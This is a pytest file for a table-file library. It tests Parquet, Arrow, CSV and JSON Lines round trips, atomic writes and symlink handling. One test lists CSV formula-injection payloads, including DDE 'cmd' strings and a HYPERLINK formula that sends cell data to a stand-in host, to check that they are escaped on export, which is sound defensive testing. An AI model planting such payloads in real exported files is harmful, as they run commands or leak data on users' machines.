"""Tables in files: round trips, text preserved as written in the file, and atomic writes."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pyarrow import ipc

from llmhub.core.errors import BadRequestError
from llmhub.tables.files import FILE_FORMATS, FORMULA, read_table, require_writable, write_table
from llmhub.tables.frames import join_results, join_schemas
from llmhub.tables.schema import RESULTS

TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
COLUMNS = {
    "text": (TEXT, pa.string()),
    "number": (st.integers(-(2**63), 2**63 - 1), pa.int64()),
    "share": (st.floats(allow_nan=False, allow_infinity=False), pa.float64()),
    "yes": (st.booleans(), pa.bool_()),
    "tags": (st.lists(TEXT, max_size=3), pa.list_(pa.string())),
    "pair": (
        st.fixed_dictionaries({"a": st.integers(0, 9), "b": TEXT}),
        pa.struct([("a", pa.int64()), ("b", pa.string())]),
    ),
    "key": (st.binary(max_size=8), pa.binary()),
    "money": (st.decimals(-(10**8), 10**8, places=9), pa.decimal128(18, 9)),
    "at": (st.datetimes(timezones=st.just(UTC)), pa.timestamp("us", "UTC")),
    "day": (st.dates(), pa.date32()),
}


@st.composite
def tables(draw: st.DrawFn) -> pa.Table:
    """Generate tables with columns of every type."""
    size = draw(st.integers(0, 6))
    columns = {
        name: pa.array(draw(st.lists(st.none() | values, min_size=size, max_size=size)), kind)
        for name, (values, kind) in COLUMNS.items()
    }
    return pa.table(columns)


@pytest.fixture(scope="module")
def folder() -> Iterator[Path]:
    with TemporaryDirectory() as name:
        yield Path(name)


def _round_trip(table: pa.Table, folder: Path, suffix: str) -> pa.Table:
    path = folder / f"table{suffix}"
    write_table(table, path, "OUTPUT")
    return read_table(path, "INPUT")


@pytest.mark.parametrize("suffix", [".parquet", ".arrow", ".feather", ".ipc"])
@given(table=tables())
def test_binary_formats_round_trip(folder: Path, suffix: str, table: pa.Table) -> None:
    found = _round_trip(table, folder, suffix)
    assert found.schema.equals(table.schema)
    assert found.equals(table)


@given(table=tables())
def test_json_lines_contain_json_values_and_nulls(folder: Path, table: pa.Table) -> None:
    write_table(table, folder / "table.jsonl", "OUTPUT")
    found = [json.loads(line) for line in (folder / "table.jsonl").read_bytes().splitlines()]
    assert found == [{name: _to_json(value) for name, value in row.items()} for row in table.to_pylist()]


@given(table=tables())
def test_csv_contains_every_value_as_text(folder: Path, table: pa.Table) -> None:
    write_table(table, folder / "table.csv", "OUTPUT")
    with (folder / "table.csv").open(encoding="utf-8", newline="") as file:
        found = list(csv.DictReader(file))
    assert len(found) == len(table)
    for expected, row in zip(table.to_pylist(), found, strict=True):
        text = expected["text"] or ""
        assert row["text"] in ({text} if not re.match(FORMULA, text, re.ASCII) else {f"'{text}"})
        assert row["number"] == ("" if expected["number"] is None else str(expected["number"]))
        assert row["share"] == "" if expected["share"] is None else float(row["share"]) == expected["share"]
        assert row["key"] == ("" if expected["key"] is None else expected["key"].hex())
        assert row["money"] == "" if expected["money"] is None else Decimal(row["money"]) == expected["money"]
        assert row["tags"] == "" if expected["tags"] is None else json.loads(row["tags"]) == expected["tags"]
        assert row["pair"] == "" if expected["pair"] is None else json.loads(row["pair"]) == expected["pair"]
        assert row["day"] == ("" if expected["day"] is None else expected["day"].isoformat())


def _to_json(value: Any) -> Any:
    match value:
        case bytes():
            return value.hex()
        case Decimal():
            return f"{value:.9f}"
        case datetime():
            return value.isoformat().replace("+00:00", "Z")
        case date():
            return value.isoformat()
        case _:
            return value


@given(
    cells=st.lists(st.none() | TEXT | st.sampled_from(["007", "1", "-0", "1.50", "1e5", "nan", "NA", "true", "1_0"]))
)
@example(cells=["1", "2"])
@example(cells=["1.5", "2.25"])
@example(cells=["9223372036854775808"])
@example(cells=["inf"])
def test_the_text_of_a_csv_cell_is_preserved(folder: Path, cells: list[str | None]) -> None:
    write_table(
        pa.table({"id": ["x"] * len(cells), "cell": pa.array(cells, pa.string())}), folder / "cells.csv", "OUTPUT"
    )
    found = read_table(folder / "cells.csv", "INPUT").column("cell").to_pylist()
    assert [None if cell is None else str(cell) for cell in found] == cells


def test_csv_columns_of_numbers_have_number_types(folder: Path) -> None:
    (folder / "n.csv").write_text("id,price,zip,day\n1,1.5,00501,2026-11-22\n2,,10001,\n", encoding="utf-8")
    found = read_table(folder / "n.csv", "INPUT")
    assert found.schema.types == [pa.int64(), pa.float64(), pa.string(), pa.string()]
    assert found.column("price").to_pylist() == [1.5, None]


def test_csv_may_have_a_byte_order_mark_and_crlf_line_endings(folder: Path) -> None:
    (folder / "w.csv").write_bytes(b'\xef\xbb\xbfa,b\r\n1,"x\r\ny"\r\n')
    assert read_table(folder / "w.csv", "INPUT").to_pydict() == {"a": [1], "b": ["x\r\ny"]}


def test_json_lines_may_lack_fields_and_mix_types(folder: Path) -> None:
    (folder / "m.jsonl").write_bytes(
        b'\xef\xbb\xbf{"a": 1}\n\n  \n{"a": "two", "b": [1]}\n{"a": {"c": null}, "b": null}\n'
    )
    assert read_table(folder / "m.jsonl", "INPUT").to_pydict() == {
        "a": ["1", "two", '{"c":null}'],
        "b": [None, [1], None],
    }


def test_json_lines_keep_the_text_of_times_and_large_integers(folder: Path) -> None:
    (folder / "t.jsonl").write_text('{"at": "2026-11-22T10:00:00", "n": 123456789012345678901}\n', encoding="utf-8")
    assert read_table(folder / "t.jsonl", "INPUT").to_pydict() == {
        "at": ["2026-11-22T10:00:00"],
        "n": ["123456789012345678901"],
    }


def test_an_arrow_stream_is_readable_as_arrow(folder: Path) -> None:
    table = pa.table({"a": [1, 2]})
    with ipc.new_stream(folder / "s.arrow", table.schema) as stream:
        stream.write_table(table)
    assert read_table(folder / "s.arrow", "INPUT").equals(table)


def test_chunks_with_different_dictionaries_are_written_to_an_arrow_file(folder: Path) -> None:
    chunks = [pa.array(words).dictionary_encode() for words in (["a", "b"], ["c"])]
    table = pa.table({"word": pa.chunked_array(chunks)})
    assert _round_trip(table, folder, ".arrow").column("word").to_pylist() == ["a", "b", "c"]


def test_values_without_a_json_type_become_text(folder: Path) -> None:
    table = pa.table(
        {"span": pa.array([timedelta(days=1, seconds=2), None]), "half": pa.array([1.5, None], pa.float16())}
    )
    write_table(table, folder / "odd.csv", "OUTPUT")
    assert (folder / "odd.csv").read_text(encoding="utf-8").splitlines()[1] == '"1 day, 0:00:02","1.5"'
    write_table(table, folder / "odd.jsonl", "OUTPUT")
    assert json.loads((folder / "odd.jsonl").read_text(encoding="utf-8").splitlines()[0])["half"] == 1.5


@pytest.mark.parametrize("suffix", FILE_FORMATS)
def test_a_failed_write_leaves_the_existing_file_unchanged(
    tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / f"table{suffix}"
    path.write_text("unchanged", encoding="utf-8")

    class FullError(OSError):
        """The disk is full."""

    def raise_full(*_: object) -> None:
        raise FullError("no space left on device")

    monkeypatch.setattr("pathlib.Path.replace", raise_full)
    with pytest.raises(FullError):
        write_table(pa.table({"a": [1]}), path, "OUTPUT")
    assert path.read_text(encoding="utf-8") == "unchanged"
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_writing_through_a_symlink_keeps_the_symlink(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_text("old", encoding="utf-8")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    write_table(pa.table({"a": [1]}), tmp_path / "link.csv", "OUTPUT")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text(encoding="utf-8") == '"a"\n1\n'


@pytest.mark.parametrize("suffix", FILE_FORMATS)
def test_results_fit_every_format_and_the_check_leaves_no_file(tmp_path: Path, suffix: str) -> None:
    require_writable(join_schemas(pa.schema([("id", pa.int64())]), RESULTS, ""), tmp_path / f"out{suffix}", "OUTPUT")
    assert list(tmp_path.iterdir()) == []


def test_a_column_that_a_format_cannot_hold_is_rejected(tmp_path: Path) -> None:
    schema = pa.schema([("odd", pa.struct([]))])
    with pytest.raises(BadRequestError, match="Parquet cannot hold a column of the input"):
        require_writable(schema, tmp_path / "out.parquet", "OUTPUT")
    require_writable(schema, tmp_path / "out.csv", "OUTPUT")
    assert list(tmp_path.iterdir()) == []


def test_joined_results_have_the_metadata_of_both_tables() -> None:
    source = pa.table({"q": ["a", "b"]}).replace_schema_metadata({"mine": "1", "pandas": "{}", "run_id": "old"})
    results = pa.table({"row": pa.array([0, 0, 1]), "x": [1, 2, 3]}).replace_schema_metadata({"run_id": "r1"})
    joined = join_results(source, results, "")
    assert joined.to_pydict() == {"q": ["a", "a", "b"], "row": [0, 0, 1], "x": [1, 2, 3]}
    assert joined.schema.metadata == {b"mine": b"1", b"run_id": b"r1"}


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://x.invalid/"&A1)',
        " \t=cmd|'/C calc'!A0",
        "\r=1",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_formulas_are_written_as_text(tmp_path: Path, text: str) -> None:
    write_table(pa.table({"response": [text]}), tmp_path / "a.csv", "OUTPUT")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1] == [f"'{text}"]


@pytest.mark.parametrize(
    "text", ["- a list\n- of items", "@user well said", "-5", "+1", "-1.5e3", "'=' is a sign", "a = b", ""]
)
def test_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    write_table(pa.table({"response": [text]}), tmp_path / "a.csv", "OUTPUT")
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[1:] == [[text]]


def test_file_may_have_many_columns(tmp_path: Path) -> None:
    table = pa.table({f"c{index}": [index] for index in range(20_000)})
    write_table(table, tmp_path / "a.arrow", "OUTPUT")
    assert read_table(tmp_path / "a.arrow", "INPUT").num_columns == 20_000
